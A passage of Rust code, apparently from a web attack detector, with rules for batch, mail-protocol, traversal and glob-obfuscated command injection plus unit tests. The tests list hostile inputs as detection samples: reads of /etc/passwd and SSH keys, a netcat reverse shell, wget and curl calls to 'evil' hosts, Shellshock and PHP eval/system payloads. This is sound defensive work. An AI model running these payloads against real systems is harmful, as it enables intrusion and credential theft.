            // `%x in (` ... `) do`
            let body = &seg[3..seg.len().min(400)];
            if let Some(p) = memchr::memchr(b'%', body) {
                let after = &body[p..];
                if let Some(q) = memchr::memmem::find(after, b" in ") {
                    let tail = &after[q + 4..];
                    if tail.trim_ascii_start().starts_with(b"(") {
                        if let Some(c) = memchr::memchr(b')', tail) {
                            if tail[c + 1..].trim_ascii_start().starts_with(b"do") {
                                return Some("rce-windows-batch");
                            }
                        }
                    }
                }
            }
        }
        if at_boundary && seg.starts_with(b"if") && words(&seg[2..]) {
            let mut r = seg[2..].trim_ascii_start();
            for opt in [&b"/i"[..], b"not"] {
                if let Some(x) = r.strip_prefix(opt) {
                    if x.first().is_none_or(|c| !is_word(*c)) {
                        r = x.trim_ascii_start();
                    }
                }
            }
            for kw in [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"] {
                if r.starts_with(kw) && r.get(kw.len()).is_some_and(|c| c.is_ascii_whitespace()) {
                    return Some("rce-windows-batch");
                }
            }
            // A comparison between two operands, then a command: `if %a%==b echo`, `if "x" equ "y"`.
            let head = &r[..r.len().min(80)];
            if memchr::memmem::find(head, b"==").is_some() {
                return Some("rce-windows-batch");
            }
            for op in [
                &b" equ "[..],
                b" neq ",
                b" lss ",
                b" leq ",
                b" gtr ",
                b" geq ",
            ] {
                if memchr::memmem::find(head, op).is_some() {
                    return Some("rce-windows-batch");
                }
            }
        }
        from += 1;
        match memchr::memchr2(b'f', b'i', &t[from..]) {
            Some(p) => from += p,
            None => break,
        }
    }
    None
}

/// Mail protocol injection: a line break in a value followed by an SMTP, IMAP or POP3 command.
fn mail_protocol(t: &[u8]) -> Option<&'static str> {
    const SMTP: &[&[u8]] = &[
        b"mail from:",
        b"rcpt to:",
        b"ehlo ",
        b"helo ",
        b"data\r",
        b"data\n",
        b"auth login",
        b"auth plain",
        b"starttls",
        b"vrfy ",
        b"expn ",
    ];
    const IMAP: &[&[u8]] = &[
        b"login",
        b"authenticate",
        b"select",
        b"examine",
        b"status",
        b"append",
        b"store",
        b"fetch",
        b"uid",
        b"capability",
        b"lsub",
        b"expunge",
        b"logout",
        b"noop",
        b"create",
        b"delete",
        b"rename",
        b"subscribe",
        b"list",
    ];
    const POP3: &[&[u8]] = &[b"retr ", b"dele ", b"stat\r", b"uidl", b"apop ", b"quit\r"];
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'\n', &t[from..]) {
        let line = &t[from + p + 1..];
        from += p + 1;
        let line = line.trim_ascii_start();
        if SMTP.iter().any(|c| line.starts_with(c)) || POP3.iter().any(|c| line.starts_with(c)) {
            return Some("rce-mail-injection");
        }
        // IMAP: a short tag, a blank, a command.
        let tag = line
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        // IMAP tags carry a digit (`a001`); prose lines starting with a word do not.
        let tagged = line[..tag].iter().any(|c| c.is_ascii_digit());
        if (1..=8).contains(&tag) && tagged && line.get(tag) == Some(&b' ') {
            let cmd = &line[tag + 1..];
            if let Some(c) = IMAP.iter().find(|c| cmd.starts_with(c)) {
                if cmd
                    .get(c.len())
                    .is_none_or(|&x| x == b' ' || x == b'\r' || x == b'\n')
                {
                    return Some("rce-mail-injection");
                }
            }
        }
    }
    None
}

/// `../`, `..\` (folded), `/..` at the end, `..;/`: a `..` that stands as a path segment.
fn traversal(t: &[u8]) -> bool {
    if t == b".." {
        return true;
    }
    let mut from = 0;
    while let Some(p) = memchr::memmem::find(&t[from..], b"..") {
        let at = from + p;
        from = at + 1;
        let before_ok = at == 0 || !(t[at - 1] == b'.' || is_word(t[at - 1]) || t[at - 1] == b'-');
        let after = t.get(at + 2).copied();
        let after_ok = matches!(after, Some(b'/') | Some(b';'))
            || (after.is_none() && at > 0 && t[at - 1] == b'/');
        if before_ok && after_ok {
            return true;
        }
    }
    false
}

/// `ca?`, `c*t`, `/???/c?t`: a shell glob that could stand for a strong command.
fn glob_matches_command(word: &[u8]) -> bool {
    if !word.iter().any(|&c| c == b'?' || c == b'*' || c == b'[') || word.len() < 2 {
        return false;
    }
    let letters = word.iter().filter(|c| c.is_ascii_alphabetic()).count();
    letters >= 1 && STRONG_COMMANDS.iter().any(|c| glob(word, c.as_bytes()))
}

fn glob(p: &[u8], s: &[u8]) -> bool {
    match (p.first(), s.first()) {
        (None, None) => true,
        (Some(b'*'), _) => glob(&p[1..], s) || (!s.is_empty() && glob(p, &s[1..])),
        (Some(b'?'), Some(_)) => glob(&p[1..], &s[1..]),
        (Some(b'['), Some(_)) => match p.iter().position(|&c| c == b']') {
            Some(e) => p[1..e].contains(&s[0]) && glob(&p[e + 1..], &s[1..]),
            None => false,
        },
        (Some(a), Some(b)) => a == b && glob(&p[1..], &s[1..]),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn l(s: &str) -> Vec<u8> {
        s.to_ascii_lowercase().into_bytes()
    }

    #[test]
    fn lfi() {
        let r = Rules::new();
        let mut t = Vec::new();
        for a in [
            "../../../etc/passwd",
            "..\\..\\boot.ini",
            "0x2e0x2e/0x2e0x2e/x",
            "/etc/shadow",
            "file:///etc/hosts",
            ".ssh/id_rsa",
            "/var/www/.env",
            "..;/admin",
        ] {
            assert!(r.lfi(&l(a), &mut t).is_some(), "missed: {a}");
        }
        for b in [
            "foo.../1234",
            "history.history=test",
            "Paris/Lyon",
            "The environment",
            "envelope.env2",
            "etc. passwd please",
            "/images/a.png",
            "1.5...2",
        ] {
            assert_eq!(r.lfi(&l(b), &mut t), None, "false positive: {b}");
        }
        assert!(r.lfi_path(b"/.git/config", &mut t).is_some());
        assert!(r.lfi_path(b"/wp-content/debug.log", &mut t).is_some());
        assert_eq!(r.lfi_path(b"/.well-known/acme-challenge/x", &mut t), None);
        assert_eq!(r.lfi_path(b"/static/app.min.js", &mut t), None);
    }

    #[test]
    fn rce() {
        let r = Rules::new();
        let mut t = Vec::new();
        for a in [
            ";cat /etc/passwd",
            "x;id",
            "| whoami",
            "&& wget http://evil/x.sh",
            "$(curl evil.com)",
            "`id`",
            "/bin/sh -c id",
            "www.google.com;/bin/ca? /et*/passwd",
            "() { :;}; /bin/bash -c id",
            ";c\\at /etc/passwd",
            "x;c''at /etc/hosts",
            ";{cat,/etc/passwd}",
            "Invoke-WebRequest http://example.com/x.ps1",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "wget http://evil/x",
        ] {
            assert!(r.rce(&l(a), &mut t).is_some(), "missed: {a}");
        }
        for b in [
            "Tom & Jerry",
            "Fish & chips; more info",
            "Dog & Cat Food",
            "black; white; red",
            "rock|paper|scissors",
            "Sleep well & time flies",
            "Price: $(5) off",
            "I want to find the best shoes",
            "cat toy",
            "R&D department; head office",
            "Q&A",
        ] {
            assert_eq!(r.rce(&l(b), &mut t), None, "false positive: {b}");
        }
    }

    #[test]
    fn php() {
        let r = Rules::new();
        for a in [
            "<?php system('id'); ?>",
            "<?= 1 ?>",
            "$_GET['c']",
            "php://input",
            "O:8:\"stdClass\":0:{}",
            "eval($_POST['x'])",
            "base64_decode('aGk=')",
            "exec\t($x)",
            "$a(1)",
            "${@a}(10)",
            "(system)(ls);",
            "(\"system\")(\"whoami\")",
            "allow_url_include=1",
            "phar://x.zip/y",
        ] {
            assert!(r.php(&l(a)).is_some(), "missed: {a}");
        }
        for b in [
            "<?xml version=\"1.0\"?>",
            "<?xpacket begin=\"\"?>",
            "exec (",
            "eval",
            "systems()",
            "(foo)bar or foo(bar)",
            "A loaded ghost gun (unserialized) was recovered",
            "Price $5 (incl. tax)",
            "The system (v2) works",
            "Count (3) items",
            "Print (A4) pages",
        ] {
            assert_eq!(r.php(&l(b)), None, "false positive: {b}");
        }
        assert!(Rules::php_filename(b"shell.php").is_some());
        assert!(Rules::php_filename(b"photo.php  ").is_some());
        assert!(Rules::php_filename(b"a.php5...").is_some());
        assert_eq!(Rules::php_filename(b"safe.phpinfo"), None);
        assert_eq!(Rules::php_filename(b"photo.jpg"), None);
    }
}
